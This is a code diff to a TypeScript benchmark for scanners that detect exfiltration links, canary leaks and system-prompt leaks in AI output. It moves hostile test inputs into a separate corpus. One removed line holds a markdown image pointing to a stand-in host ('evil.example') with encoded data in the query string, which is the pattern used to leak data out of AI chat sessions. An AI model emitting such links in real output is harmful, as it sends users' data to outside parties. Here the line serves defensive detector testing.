@@ -5,6 +5,7 @@ import type { ScanContext } from '../src/core/types.js';
 import { canary, createCanary } from '../src/scanners/canary.js';
 import { exfilLinks } from '../src/scanners/exfil-links.js';
 import { systemPromptLeak } from '../src/scanners/system-prompt-leak.js';
+import { linkHostileInputs } from './corpus.js';
 import { measure, type BenchRow } from './measure.js';
 
 const SYSTEM_PROMPT =
@@ -70,24 +71,9 @@ export async function benchLinks(): Promise<BenchRow[]> {
     ),
   ];
   const big = { minRuns: 5, warmup: 2, budgetMs: 1000 };
-  const MiB = 1 << 20;
-  const rep = (s: string): string => s.repeat(Math.ceil(MiB / s.length)).slice(0, MiB);
-  const hostile: Record<string, string> = {
-    '![': rep('!['),
-    '[[[[': rep('['),
-    '<img src=': rep('<img src='),
-    'http://a.b/?': rep('http://a.b/?'),
-    'markdown images with data': rep('![x](https://evil.example/a.png?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY) '),
-  };
-  for (const [name, text] of Object.entries(hostile)) {
-    results.push(await measure(`exfil-links 1 MiB of ${name}`, () => exfilLinks.scan(text, ctx), big));
+  for (const { name, text } of linkHostileInputs()) {
+    results.push(await measure(`exfil-links ${name}`, () => exfilLinks.scan(text, ctx), big));
+    results.push(await measure(`canary ${name}`, () => canary.scan(text, ctx), big));
   }
-  results.push(
-    await measure(
-      'canary 1 MiB of base64-ish text',
-      () => canary.scan(rep('QUJDREVGR0hJSktMTU5P'), ctx),
-      big,
-    ),
-  );
   return results;
 }
